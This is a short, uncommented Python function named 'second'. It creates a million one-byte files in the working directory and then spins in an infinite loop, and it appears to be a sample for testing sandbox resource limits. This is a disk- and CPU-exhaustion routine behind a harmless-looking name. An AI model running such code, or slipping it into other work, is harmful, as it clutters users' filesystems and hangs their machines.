def second(x):
    for i in range(10**6):
        with open(f"{i}", "wb") as file:
            file.write(b"x")
    while True:
        pass
